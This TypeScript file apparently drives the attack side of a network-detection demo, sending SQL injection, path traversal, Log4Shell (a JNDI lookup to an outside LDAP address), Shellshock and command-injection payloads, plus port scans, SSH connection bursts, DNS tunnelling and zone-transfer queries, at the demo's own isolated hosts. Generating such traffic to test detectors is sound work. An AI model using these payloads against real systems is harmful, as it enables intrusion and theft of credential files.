/**
 * The demo's attacks, done: real requests of the attacker's namespace to the web and DNS servers.
 *
 * Invariants: bounded in count and rate, harmless to servers that interpret nothing, and aimed at the demo's own
 * addresses only, which no route leads out of. What each must raise is in attacks.ts.
 */
import { createSocket } from "node:dgram";
import { Resolver } from "node:dns/promises";
import { once } from "node:events";
import { type OutgoingHttpHeaders, request } from "node:http";
import { connect } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { connect as connectTls } from "node:tls";
import { encode } from "dns-packet";
import type { AttackId } from "./attacks.ts";
import { runCommand } from "./command.ts";
import { DEMO_DOMAIN, demoTopology } from "./demo-topology.ts";

const { web, dns } = demoTopology("attacker").hosts;
const TIMEOUT_MS = 10_000;
const SCANNED_PORTS = 60;
const GUESSED_PATHS = 40;
const TUNNEL_QUERIES = 8;
const SSH_LOGINS = 12;

/** Does one attack from the namespace that this process is in; resolves once its last packet was answered or lost. */
export async function attack(id: AttackId): Promise<void> {
  await RUNNERS[id]();
}

const RUNNERS: Readonly<Record<AttackId, () => Promise<void>>> = {
  "sql-injection": async () => {
    await send({ path: "/products?id=7%27%20UNION%20SELECT%20name%2Cpassword%20FROM%20users--%20" });
    await send({ path: "/login?user=admin%27%20OR%20%271%27%3D%271" });
  },
  "path-traversal": () => send({ path: "/downloads/../../../../etc/passwd" }),
  log4shell: () =>
    send({ path: "/", headers: { "x-api-version": "${jndi:ldap://198.51.100.9:1389/Basic/a}" } }),
  shellshock: () =>
    send({ path: "/cgi-bin/status", headers: { "user-agent": "() { :;}; /bin/cat /etc/passwd" } }),
  "scanner-agent": () =>
    send({ path: "/products?id=1", headers: { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" } }),
  "directory-brute-force": async () => {
    for (let n = 0; n < GUESSED_PATHS; n += 1) {
      await send({
        path: `/backup-${n}/`,
        headers: { "user-agent": "Mozilla/5.00 (Nikto/2.5.0) (Test:map_codes)" },
      });
    }
  },
  "port-scan": async () => {
    for (let port = 8_000; port < 8_000 + SCANNED_PORTS; port += 1) {
      await knock(port);
    }
  },
  "dns-tunnel": async () => {
    const resolver = new Resolver({ timeout: 2_000, tries: 1 });
    resolver.setServers([dns.ipv4]);
    for (let n = 0; n < TUNNEL_QUERIES; n += 1) {
      const labels = [
        `${n}`.padStart(4, "q").padEnd(60, "mfrggzdfmztwq2lk"),
        "".padEnd(60, "nbswy3dpeb3w64tmmq"),
      ];
      // The zone has no such name: NXDOMAIN is the answer that is expected.
      await resolver.resolveTxt(`${labels.join(".")}.t.${DEMO_DOMAIN}`).catch(() => []);
    }
  },
  "large-ping": async () => {
    await runCommand("ping", ["-n", "-q", "-c", "3", "-i", "0.3", "-W", "2", "-s", "1400", web.ipv4]);
  },
  "zone-transfer": transferZone,
  "command-injection": () =>
    send({ path: "/login", body: "user=admin&password=%3Bcat+%2Fetc%2Fpasswd;cat /etc/passwd" }),
  "suspicious-sni": async () => {
    const socket = connectTls({
      host: web.ipv4,
      port: 443,
      servername: "c2.malware.example",
      rejectUnauthorized: false,
    });
    socket.setTimeout(TIMEOUT_MS, () => socket.destroy(new Error("timeout")));
    await once(socket, "secureConnect");
    socket.destroy();
  },
  "ssh-brute-force": async () => {
    for (let n = 0; n < SSH_LOGINS; n += 1) {
      const socket = connect({ host: web.ipv4, port: 22 });
      socket.setTimeout(TIMEOUT_MS, () => socket.destroy(new Error("timeout")));
      await once(socket, "data");
      socket.end("SSH-2.0-libssh2_1.11.0\r\n");
      socket.resume();
      await once(socket, "close");
      await sleep(50);
    }
  },
};

interface WebRequest {
  readonly path: string;
  readonly headers?: OutgoingHttpHeaders;
  readonly body?: string;
}

/** Whatever the server says is fine: only the request matters. */
async function send({ path, headers, body }: WebRequest): Promise<void> {
  const done = Promise.withResolvers<void>();
  const outgoing = request({
    host: web.ipv4,
    port: 80,
    path,
    agent: false,
    timeout: TIMEOUT_MS,
    method: body === undefined ? "GET" : "POST",
    headers: {
      host: `www.${DEMO_DOMAIN}`,
      "user-agent": "Mozilla/5.0 (X11; Linux x86_64)",
      ...(body === undefined ? {} : { "content-type": "application/x-www-form-urlencoded" }),
      ...headers,
    },
  });
  outgoing.on("response", (response) => {
    response.on("end", () => done.resolve()).on("error", done.reject);
    response.resume();
  });
  outgoing.on("timeout", () => outgoing.destroy(new Error("timeout"))).on("error", done.reject);
  outgoing.end(body);
  await done.promise;
}

/** A closed port answers with RST at once; an open one accepts: both are enough. */
async function knock(port: number): Promise<void> {
  const closed = Promise.withResolvers<void>();
  const socket = connect({ host: web.ipv4, port, timeout: 500 });
  socket.on("connect", () => socket.destroy());
  socket.on("timeout", () => socket.destroy());
  socket.on("error", () => socket.destroy());
  socket.on("close", () => closed.resolve());
  await closed.promise;
}

async function transferZone(): Promise<void> {
  const socket = createSocket("udp4");
  const query = encode({ type: "query", id: 0xb0b, questions: [{ type: "AXFR", name: DEMO_DOMAIN }] });
  socket.send(query, 53, dns.ipv4);
  await Promise.race([once(socket, "message"), sleep(2_000, undefined, { ref: false })]);
  socket.close();
}
